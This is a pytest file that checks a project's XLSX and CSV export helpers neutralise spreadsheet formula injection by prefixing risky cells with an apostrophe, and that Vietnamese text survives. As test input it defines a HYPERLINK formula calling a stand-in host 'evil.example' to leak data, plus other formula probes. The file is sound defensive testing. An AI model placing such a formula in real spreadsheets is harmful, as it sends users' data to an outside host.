"""Exports are safe to open: no text cell of an XLSX or CSV export can run as a formula."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from thongsuot.core.exports import csv_response, safe_cell, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?leak","x")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+84 901", "'+84 901"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Phường Bến Thành", "Phường Bến Thành"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (14.75, 14.75),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_xlsx_cells_and_headings_are_text_never_formulas():
    response = xlsx_response(
        filename="x.xlsx", sheet="Thử", header=["Đơn vị", "=1+1"], rows=[[EVIL, 3], ["-2", -2.5], ["Bình thường", None]]
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[(c.data_type, c.value) for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [("s", "Đơn vị"), ("s", "'=1+1")]
    assert rows[1] == [("s", "'" + EVIL), ("n", 3)]
    assert rows[2] == [("s", "'-2"), ("n", -2.5)]  # a negative number stays a number
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_csv_cells_are_escaped_and_vietnamese_survives():
    response = csv_response(filename="x.csv", header=["Tên", "@cmd"], rows=[[EVIL, 1], ["Sài Gòn", "-3"]])
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["Tên", "'@cmd"], ["'" + EVIL, "1"], ["Sài Gòn", "'-3"]]
